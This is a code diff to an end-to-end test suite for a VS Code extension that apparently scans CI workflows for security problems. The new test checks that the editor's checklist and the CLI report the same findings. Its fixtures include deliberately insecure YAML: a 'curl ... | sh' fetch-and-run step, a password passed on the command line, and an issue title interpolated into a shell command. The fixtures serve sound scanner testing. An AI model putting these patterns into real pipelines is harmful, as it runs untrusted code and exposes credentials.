@@ -1,6 +1,8 @@
 // Extension-host suite: runs inside a real VS Code (code-server here, desktop VS Code via @vscode/test-electron where
 // it can be downloaded) against the workspace from test/e2e/workspace.mjs, through the public `vscode` API only.
 import * as assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import * as path from 'node:path';
 import * as vscode from 'vscode';
 import { SUPPRESS_KIND } from '../../../server/src/protocol';
 import { A, E } from '../../online/fixtures';
@@ -504,6 +506,11 @@ test('the status bar counts YAML syntax errors, in its text and its tooltip alik
   assert.match(state.statusBar, /\d+ YAML errors?$/);
   assert.ok(state.statusBarTooltip.includes(state.statusBar.replace('$(shield) ', '')), state.statusBarTooltip);
   await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
+  await vscode.workspace.fs.delete(uri);
+  await until('the deleted broken workflow to leave the checklist', async () => {
+    const s = await uiState();
+    return !s.files.includes(uri.toString()) && !s.tree.some((item) => item.label.includes('broken.yml'));
+  });
 });
 
 const SECRET_TEXT =
@@ -600,6 +607,89 @@ test('Move Secret on GitLab CI: an empty answer is "skipped" with a stdin glab c
   assert.ok(!JSON.stringify(outcome).includes('Hk3pQ8'), 'no value in the outcome');
   assert.equal(await vscode.commands.executeCommand('flowguard.undoSecretMove', outcome.id), true);
   assert.equal(document.getText(), text, 'Undo restores the removed variable');
+});
+
+interface CliReport {
+  summary: { bySeverity: Record<string, number> };
+  files: Array<{ path: string }>;
+  findings: Array<{ path: string; severity: string }>;
+}
+
+/** The workspace checklist's totals per severity, read from its category rows ("fail · 2 high, 1 low"). */
+function checklistTotals(tree: RenderedItem[]): Record<string, number> {
+  const totals: Record<string, number> = { high: 0, medium: 0, low: 0, info: 0 };
+  for (const row of tree.filter((i) => i.depth === 0))
+    for (const [, n, severity] of (row.description ?? '').matchAll(/(\d+) (high|medium|low|info)\b/g))
+      totals[severity] += Number(n);
+  return totals;
+}
+
+// Offline (before the pinning test turns online checks on): the CLI never asks the network.
+// Shapes where the two could part: a YAML error (the CLI counts it as a high parse-error finding), GitLab CI YAML
+// under .gitlab/, a composite action outside .github/, a suppressed finding, a .yaml extension.
+const CLI_PARITY_FILES: Record<string, string> = {
+  '.github/workflows/unparsable.yml': 'on: push\njobs:\n  a: [unclosed\n',
+  '.gitlab/ci/deploy.yml':
+    'deploy:\n  script:\n    - curl http://example.com/x | sh\n    - docker login -u u -p $PASS\n',
+  'actions/build/action.yml':
+    'name: b\ndescription: d\nruns:\n  using: composite\n  steps:\n    - run: echo ${{ github.event.issue.title }}\n      shell: bash\n',
+  '.github/workflows/suppressed.yaml':
+    'on: push\npermissions: write-all # flowguard: ignore[excessive-permissions] reviewed by the security team\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl http://example.com/x -o x\n',
+};
+
+test('the checklist totals match the CLI for the same files', async () => {
+  const added = Object.entries(CLI_PARITY_FILES).map(([relPath, text]) => {
+    const uri = vscode.Uri.joinPath(folder(), relPath);
+    return { uri, write: vscode.workspace.fs.writeFile(uri, new TextEncoder().encode(text)) };
+  });
+  await Promise.all(added.map((a) => a.write));
+  await until('the added files in the checklist', async () => {
+    const files = (await uiState()).files;
+    return added.every((a) => files.includes(a.uri.toString()));
+  });
+  await vscode.commands.executeCommand('workbench.action.files.saveAll');
+  await vscode.commands.executeCommand('flowguard.checklist.showWorkspace');
+  await vscode.commands.executeCommand('flowguard.rescanWorkspace');
+  const extension = vscode.extensions.all.find((e) => e.packageJSON?.name === 'flowguard');
+  assert.ok(extension);
+  // The CLI as a user runs it in the repository (so it reads the same .flowguard.yml); the extension host may be
+  // Electron, which runs as plain Node with ELECTRON_RUN_AS_NODE.
+  const cli = spawnSync(
+    process.execPath,
+    [path.join(extension.extensionPath, 'bin', 'flowguard.js'), 'scan', '.', '--format', 'json', '--no-fail'],
+    { cwd: folder().fsPath, encoding: 'utf8', env: { ...process.env, ELECTRON_RUN_AS_NODE: '1' }, timeout: 60_000 },
+  );
+  assert.equal(cli.status, 0, cli.stderr);
+  const report = JSON.parse(cli.stdout) as CliReport;
+  // files.exclude hides vendored/ from the editor; the CLI knows no editor setting, so those files are set aside.
+  const excluded = (p: string) => p.startsWith('vendored/');
+  assert.ok(
+    report.files.some((f) => excluded(f.path)),
+    'the CLI scanned the excluded folder too',
+  );
+  const uriOf = (p: string) => vscode.Uri.joinPath(folder(), p).toString();
+  const state = await uiState();
+  assert.deepEqual(
+    state.files.slice().sort(),
+    report.files
+      .filter((f) => !excluded(f.path))
+      .map((f) => uriOf(f.path))
+      .sort(),
+    'the checklist covers the files the CLI scans',
+  );
+  const cliTotals: Record<string, number> = { high: 0, medium: 0, low: 0, info: 0 };
+  for (const f of report.findings) if (!excluded(f.path)) cliTotals[f.severity]++;
+  assert.ok(
+    Object.values(cliTotals).some((n) => n > 0),
+    JSON.stringify(report.summary),
+  );
+  assert.ok(report.findings.some((f) => f.severity === 'high' && f.path.endsWith('unparsable.yml')));
+  assert.deepEqual(checklistTotals(state.tree), cliTotals, JSON.stringify(state.tree.filter((i) => i.depth === 0)));
+  for (const { uri } of added) await vscode.workspace.fs.delete(uri);
+  await until('the added files to leave the checklist', async () => {
+    const files = (await uiState()).files;
+    return added.every((a) => !files.includes(a.uri.toString()));
+  });
 });
 
 // The runner starts a loopback GitHub API (test/online/servers.ts) and names it here; the extension reaches it
